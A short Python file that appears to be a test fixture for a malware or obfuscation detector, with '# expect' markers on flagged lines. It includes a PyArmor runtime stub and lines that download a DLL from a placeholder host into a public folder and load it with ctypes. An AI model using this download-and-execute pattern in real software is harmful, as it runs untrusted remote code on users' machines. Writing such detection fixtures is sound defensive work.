import ctypes
import urllib.request

from pyarmor_runtime import __pyarmor__  # expect

__pyarmor__(__name__, __file__, b"\x50\x59")  # expect
urllib.request.urlretrieve("https://example.com/x.dll", "C:\\Users\\Public\\x.dll")
ctypes.CDLL("C:\\Users\\Public\\x.dll")  # expect
